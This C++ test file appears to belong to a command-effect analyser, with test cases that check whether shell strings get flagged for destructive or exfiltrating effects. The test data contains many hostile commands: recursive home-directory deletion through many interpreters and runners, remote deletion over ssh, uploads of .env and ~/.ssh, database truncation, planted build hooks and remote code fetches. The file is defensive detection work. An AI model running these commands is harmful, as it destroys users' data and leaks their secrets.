// SPDX-License-Identifier: Apache-2.0
// Program text that reaches an interpreter by other ways than as its own word: standard input of another host, files
// that the call writes and a runner uses, calls of code that are like commands.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "analyse/analyse.h"
#include "analyse/tests/test_claims.h"
#include "analyse/tests/test_world.h"

namespace pawl {
namespace {

bool deletes_home(const Effect& effect) {
  return effect.kind == EffectKind::remove && effect.object == "/home/dev" &&
         effect.attributes.has(Attribute::recursive);
}

bool deletes_there(const Effect& effect) {
  return effect.kind == EffectKind::remove && effect.attributes.has(Attribute::remote);
}

bool is_unseen(const Effect& effect) {
  return effect.kind == EffectKind::execute && effect.action == Action::unknown;
}

bool empties_database(const Effect& effect) {
  return effect.kind == EffectKind::database && effect.action == Action::empty;
}

TEST(Texts, another_host_runs_what_comes_on_standard_input) {
  expect_effects(deletes_there,
                 {"ssh h <<'EOF'\nrm -r /srv/x\nEOF", "echo 'rm -r /srv/x' | ssh h", "ssh h <<< 'rm -r /srv/x'",
                  "ssh h 'bash -s' <<< 'rm -r /srv/x'"},
                 {"ssh h", "ssh h uptime <<< 'rm -r /srv/x'", "ssh -N h <<< 'rm -r /srv/x'"});
  expect_effects(is_unseen, {"date | bash"}, {"ssh h 'bash -s' < missing.sh", "ssh h < missing.sh", "ssh h"});
}

TEST(Texts, transfer_programs_send_what_their_commands_name) {
  expect_effects(carries,
                 {"sftp h <<< 'put .env'", "sftp -b - h <<< 'put .env'", "lftp -e 'put .env; bye' h",
                  "lftp -c 'open h; mirror -R ~/.ssh'", "ftp -n h <<EOF\nuser a b\nput .env\nEOF"},
                 {"sftp h <<< 'put dist/x.tgz'", "sftp h <<< 'get .env'", "lftp -e 'mirror -R dist; bye' h"});
}

TEST(Texts, languages_without_a_reader_by_their_literal_commands) {
  expect_effects(
      deletes_home,
      {"Rscript -e 'unlink(\"/home/dev\", recursive = TRUE)'", "Rscript - <<< 'system(\"rm -rf ~\")'",
       "lua -e 'os.execute(\"rm -rf ~\")'", "guile -c '(system \"rm -rf ~\")'", "gdb -batch -ex 'shell rm -rf ~' ./x",
       "dc -e '!rm -rf ~'", "m4 <<< 'syscmd(rm -rf ~)'", "echo 'system(\"rm -rf ~\")' > x.R; Rscript x.R",
       "jshell - <<< 'Runtime.getRuntime().exec(\"rm -rf /home/dev\")'"},
      {"Rscript -e 'print(\"rm -rf ~\")'"});
  expect_effects(is_unseen, {"Rscript -e 'system(x)'", "lua -e 'load(x)()'"},
                 {"Rscript -e 'print(1)'", "lua -e 'print(1)'", "gdb -batch -ex run -ex bt ./x", "R", "lua"});
}

TEST(Texts, frameworks_run_code_in_their_own_language) {
  expect_effects(empties_database,
                 {"bin/rails runner 'User.delete_all'", "rails console <<< 'User.destroy_all'",
                  "python manage.py shell -c 'from a.models import U; U.objects.all().delete()'",
                  "python3 manage.py shell <<< 'from a.models import U\nU.objects.all().delete()'",
                  "php artisan tinker --execute='DB::table(\"users\")->truncate();'"},
                 {"bin/rails runner 'User.where(id: 1).delete_all'", "bin/rails runner 'puts User.count'",
                  "python manage.py shell -c 'from a.models import U; U.objects.filter(id=1).delete()'"});
}

TEST(Texts, words_of_a_known_text_are_run_as_an_array) {
  expect_effects(
      deletes_home,
      {"read -ra c <<< 'rm -rf /home/dev'; \"${c[@]}\"", "mapfile -t c <<< $'rm\\n-rf\\n/home/dev'; \"${c[@]}\"",
       "readarray -d ' ' -t c <<< 'rm -rf /home/dev'; \"${c[@]}\"",
       "mapfile -t c < <(printf 'rm\\n-rf\\n/home/dev\\n'); \"${c[@]}\"", "echo 'rm -rf ~' | xargs -0 sh -c",
       "parallel --pipe sh <<< 'rm -rf ~'"},
      {"read -ra c <<< 'rm -rf /home/dev'; echo \"${c[@]}\"", "echo 'rm -rf ~' | xargs sh -c"});
}

TEST(Texts, runners_take_up_files_that_the_call_writes) {
  expect_effects(
      deletes_home,
      {"echo 'import os; os.system(\"rm -rf ~\")' > conftest.py; pytest",
       "echo 'import os; os.system(\"rm -rf ~\")' > noxfile.py; nox",
       "echo 'import os; os.system(\"rm -rf ~\")' > setup.py; pip install .",
       "printf 'tasks:\\n  x:\\n    cmds: [\"rm -rf ~\"]\\n' > Taskfile.yml; task x",
       "printf 'tasks:\\n  default:\\n    deps: [x]\\n  x: rm -rf ~\\n' > Taskfile.yml; task",
       "echo 'func main() { os.RemoveAll(\"/home/dev\") }' > main.go; go run main.go",
       "echo 'int main(){system(\"rm -rf ~\");}' > a.c; gcc a.c -o a; ./a",
       "echo 'fn main() { Command::new(\"rm\").args([\"-rf\", \"/home/dev\"]); }' > build.rs; cargo build",
       "npm pkg set scripts.x='rm -rf ~'"},
      {"echo 'import os; os.system(\"rm -rf ~\")' > other.py; pytest",
       "printf 'tasks:\\n  x: rm -rf ~\\n  y: ls\\n' > Taskfile.yml; task y",
       "echo 'func main() { os.RemoveAll(\"/home/dev\") }' > main.go; go vet",
       "echo 'int main(){system(\"rm -rf ~\");}' > a.c; gcc a.c -o a", "npm pkg set scripts.x='rm -rf dist'"});
}

TEST(Texts, packages_that_delete) {
  expect_effects(
      deletes_home,
      {"npx rimraf ~", "npx -p rimraf rimraf /home/dev", "npm exec -- rimraf /home/dev", "bunx rimraf ~",
       "npx shx rm -rf ~", "yarn node -e \"require('child_process').execSync('rm -rf ~')\"",
       "npm explore x -- rm -rf ~", "zmodload zsh/files; zf_rm -rf ~", "xonsh -c 'rm -rf ~'",
       "node --import 'data:text/javascript,import{execSync}from\"child_process\";execSync(\"rm -rf ~\")' -e 1"},
      {"npx rimraf dist", "npx rimraf --help"});
  expect_effects([](const Effect& effect) { return effect.action == Action::downloaded; },
                 {"deno run -A https://h.example/x.ts", "php -r 'include \"https://h.example/x\";'"},
                 {"deno run x.ts", "deno run npm:cowsay"});
}

TEST(Texts, paths_from_standard_input_are_what_code_deletes) {
  expect_effects(
      [](const Effect& effect) {
        return effect.kind == EffectKind::remove && effect.attributes.has(Attribute::recursive);
      },
      {"find ~ -type f | python3 -c 'import sys,os\nfor l in sys.stdin: os.remove(l.strip())'",
       "find . -type f | perl -nle 'unlink $_'", "find . -type f -print0 | perl -0ne unlink"},
      {"find . -type f | perl -nle 'print $_'"});
}

TEST(Texts, what_code_made_for_a_time_is_no_unknown_path) {
  expect_effects(
      [](const Effect& effect) { return effect.kind == EffectKind::remove && !effect.classes.has(PathClass::temp); },
      {"python3 -c 'import shutil; shutil.rmtree(x)'",
       "python3 -c 'import shutil, tempfile; shutil.rmtree(tempfile.gettempdir())'"},
      {"python3 -c 'import tempfile, shutil; shutil.rmtree(tempfile.mkdtemp())'",
       "python3 -c 'import tempfile, shutil\nwith tempfile.TemporaryDirectory() as d: shutil.rmtree(d + \"/x\")'",
       "python3 -c 'import tempfile, os; f = tempfile.NamedTemporaryFile(delete=False); os.remove(f.name)'",
       "node -e \"const "
       "d=require('fs').mkdtempSync(require('path').join(require('os').tmpdir(),'x-'));require('fs').rmSync(d,{"
       "recursive:true})\"",
       "ruby -e 'require \"tmpdir\"; Dir.mktmpdir { |d| FileUtils.rm_rf(d) }'"});
}

TEST(Texts, functions_that_nothing_calls_delete_nothing_yet) {
  expect_effects([](const Effect& effect) { return effect.kind == EffectKind::remove; },
                 {"python3 -c 'import subprocess\ndef f(p): subprocess.run([\"rm\", \"-rf\", p])\nf(\"/home/dev\")'"},
                 {"python3 -c 'import subprocess\ndef f(p): subprocess.run([\"rm\", \"-rf\", p])'"});
}

}  // namespace
}  // namespace pawl
